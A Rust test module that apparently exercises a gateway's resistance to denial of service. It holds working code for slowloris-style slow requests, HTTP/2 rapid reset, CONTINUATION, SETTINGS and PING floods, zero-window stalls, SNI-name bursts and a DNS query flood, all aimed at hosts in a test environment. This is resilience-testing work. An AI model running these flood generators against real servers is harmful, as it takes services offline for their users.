//! The attacks. Each returns what it holds open; it goes when that is dropped.

use std::pin::Pin;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::{TcpStream, UdpSocket};
use tokio::time::timeout;

use crate::common::client::{self, Tls, TlsStream};
use crate::common::upstream::Io;
use crate::common::world::{GATEWAY, SERVER};
use crate::frames::{self, DATA, HEADERS, RST_STREAM, SETTINGS};

const CONTINUATION: u8 = 9;
const PING: u8 = 6;

/// Longer than this no attack goes on: once the gateway reads no more, writing never ends.
const LONGEST: Duration = Duration::from_secs(2);

pub type Held = Vec<Box<dyn Io>>;
type Attack = fn(Attacker) -> Pin<Box<dyn Future<Output = Held> + Send>>;

pub const ATTACKS: [(&str, Attack); 14] = [
    ("idle connections", |a| Box::pin(a.clear(b"", 120))),
    ("half a hello", |a| {
        Box::pin(a.clear(b"\x16\x03\x01\x02\x00\x01\x00", 120))
    }),
    ("slow header", |a| {
        Box::pin(a.secure(b"GET / HTTP/1.1\r\nhost: h1.test\r\nx: ", 30))
    }),
    ("slow body", |a| {
        let head = b"POST / HTTP/1.1\r\nhost: h1.test\r\ncontent-length: 100000\r\n\r\nhello";
        Box::pin(a.secure(head, 30))
    }),
    ("slow read", |a| {
        Box::pin(a.secure(b"GET /big HTTP/1.1\r\nhost: h1.test\r\n\r\n", 20))
    }),
    ("interim responses", |a| {
        Box::pin(a.secure(b"GET /interim HTTP/1.1\r\nhost: h1.test\r\n\r\n", 10))
    }),
    ("rapid reset", |a| Box::pin(a.frames(rapid_reset()))),
    ("continuation", |a| Box::pin(a.frames(continuation()))),
    ("settings", |a| {
        Box::pin(a.frames(frames::frame(SETTINGS, 0, 0, &[]).repeat(20_000)))
    }),
    ("ping", |a| {
        Box::pin(a.frames(frames::frame(PING, 0, 0, &[0; 8]).repeat(20_000)))
    }),
    ("empty data", |a| Box::pin(a.frames(empty_data()))),
    ("no window", |a| Box::pin(a.frames(no_window()))),
    ("names to mint for", |a| Box::pin(a.names())),
    ("dns", |a| Box::pin(a.queries())),
];

/// The agent of IPv4.
#[derive(Clone)]
pub struct Attacker {
    h1: Tls,
    h2: Tls,
}

impl Attacker {
    pub fn new(ca_pem: &str) -> Self {
        Self {
            h1: Tls::new(ca_pem, &["http/1.1"]),
            h2: Tls::new(ca_pem, &["h2"]),
        }
    }

    /// So many connections that send this and no more.
    async fn clear(self, bytes: &'static [u8], count: usize) -> Held {
        let mut held: Held = Vec::new();
        for _ in 0..count {
            let mut stream = client::tcp((SERVER[0], 443)).await.unwrap();
            let _ = stream.write_all(bytes).await;
            held.push(Box::new(stream));
        }
        held
    }

    /// So many connections that send this over TLS and read nothing.
    async fn secure(self, bytes: &'static [u8], count: usize) -> Held {
        let mut held: Held = Vec::new();
        for _ in 0..count {
            let mut stream = connect(&self.h1).await;
            let _ = timeout(LONGEST, stream.write_all(bytes)).await;
            held.push(Box::new(stream));
        }
        held
    }

    /// Three connections of HTTP/2 that send this and read nothing.
    async fn frames(self, bytes: Vec<u8>) -> Held {
        let mut held: Held = Vec::new();
        for _ in 0..3 {
            let mut stream = connect(&self.h2).await;
            let greeting = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
            let settings = frames::frame(SETTINGS, 0, 0, &[]);
            let all = [&greeting[..], &settings, &bytes].concat();
            let _ = timeout(LONGEST, stream.write_all(&all)).await;
            held.push(Box::new(stream));
        }
        held
    }

    /// Names that no rule allows, each another.
    async fn names(self) -> Held {
        for number in 0..200 {
            let name = format!("n{number}.evil.test");
            // Past the rate there is an alert.
            let _ = self.h1.connect((SERVER[0], 443), &name).await;
        }
        Vec::new()
    }

    /// Queries as fast as they go; a reply now and then is read.
    async fn queries(self) -> Held {
        let socket = UdpSocket::bind("0.0.0.0:0").await.unwrap();
        socket.connect((GATEWAY[0], 53)).await.unwrap();
        for number in 0..3_000_u16 {
            let label = format!("{number:08}");
            let query = [
                &number.to_be_bytes()[..],
                b"\x01\0\0\x01\0\0\0\0\0\0\x08",
                label.as_bytes(),
                b"\x04evil\x04test\0\0\x01\0\x01",
            ];
            let _ = socket.send(&query.concat()).await;
        }
        let mut reply = [0; 512];
        let _ = timeout(LONGEST, socket.recv(&mut reply)).await;
        Vec::new()
    }
}

async fn connect(tls: &Tls) -> TlsStream<TcpStream> {
    tls.connect((SERVER[0], 443), "h1.test").await.unwrap()
}

fn get() -> Vec<u8> {
    frames::encode(&[
        (b":method", b"GET"),
        (b":scheme", b"https"),
        (b":authority", b"h1.test"),
        (b":path", b"/"),
    ])
}

fn rapid_reset() -> Vec<u8> {
    let block = get();
    let streams = (0..4_000).map(|number| 1 + 2 * number);
    let both = |stream| {
        let begin = frames::frame(HEADERS, 5, stream, &block);
        [begin, frames::frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
    };
    streams.flat_map(both).collect()
}

/// A head that never ends.
fn continuation() -> Vec<u8> {
    let field = frames::encode(&[(b"x", &[b'y'; 1000])]);
    let mut bytes = frames::frame(HEADERS, 0, 1, &get());
    bytes.extend(frames::frame(CONTINUATION, 0, 1, &field).repeat(2_000));
    bytes
}

fn empty_data() -> Vec<u8> {
    let mut bytes = frames::frame(HEADERS, 4, 1, &get());
    bytes.extend(frames::frame(DATA, 0, 1, &[]).repeat(20_000));
    bytes
}

/// Answers that may never be sent.
fn no_window() -> Vec<u8> {
    let mut bytes = frames::frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
    for number in 0..100 {
        bytes.extend(frames::frame(HEADERS, 5, 1 + 2 * number, &get()));
    }
    bytes
}
